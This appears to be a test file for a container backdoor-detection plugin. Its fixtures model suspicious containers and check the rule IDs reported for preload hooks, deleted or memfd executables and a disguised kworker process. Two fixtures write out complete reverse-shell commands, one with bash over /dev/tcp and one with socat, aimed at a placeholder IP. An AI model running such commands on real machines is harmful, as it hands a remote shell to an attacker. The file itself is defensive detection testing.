import { scanWith } from '@veinmind/plugin-testing'
import { buildContainer, buildImage, layer } from '@veinmind/testing'
import { expect, test } from 'vitest'
import plugin from './index.ts'

const found = async (parts: Parameters<typeof buildContainer>[0]): Promise<string[]> => {
  const image = buildImage(layer({ 'etc/passwd': 'root:x:0:0::/root:/bin/sh\n' }))
  const { findings } = await scanWith(plugin, buildContainer({ image, ...parts }), { workers: 0 })
  return findings.map(({ rule, locations }) => `${rule.id} ${locations[0]?.object ?? locations[0]?.path ?? ''}`).sort()
}

test('variables of a container, and of single processes', async () => {
  expect(
    await found({
      env: ['PATH=/bin', 'LD_PRELOAD=/opt/hook.so'],
      processes: [
        { pid: 1, name: 'app', args: ['app'], env: ['PATH=/bin', 'LD_PRELOAD=/opt/hook.so'] },
        { pid: 7, name: 'sh', args: ['sh'], env: ['LD_AUDIT=/dev/shm/a.so'] },
      ],
    }),
  ).toEqual(['BACK-003 env[LD_PRELOAD]', 'BACK-003 processes[7].env'])
})

test('what processes were started with', async () => {
  expect(
    await found({
      processes: [
        {
          pid: 1,
          name: 'nginx',
          args: ['nginx: master process', 'nginx', '-g', 'daemon off;'],
          exe: '/usr/sbin/nginx',
        },
        { pid: 2, name: 'bash', args: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'], exe: '/usr/bin/bash' },
        { pid: 3, name: 'socat', args: ['socat', 'TCP:203.0.113.7:9', 'EXEC:/bin/sh'], exe: '/usr/bin/socat' },
      ],
    }),
  ).toEqual(['BACK-101 processes[2]', 'BACK-105 processes[3]'])
})

test('where processes run from, and what they pass for', async () => {
  expect(
    await found({
      processes: [
        { pid: 1, name: 'app', args: ['/app/server'], exe: '/app/server' },
        { pid: 2, name: 'x', args: ['/tmp/.x/x'], exe: '/tmp/.x/x (deleted)' },
        { pid: 3, name: 'x', args: ['x'], exe: '/memfd:x (deleted)' },
        { pid: 4, name: 'kworker', args: ['[kworker/0:0]'], exe: '/usr/local/bin/x' },
      ],
    }),
  ).toEqual(['BACK-185 processes[2]', 'BACK-230 processes[2]', 'BACK-230 processes[3]', 'BACK-231 processes[4]'])
})
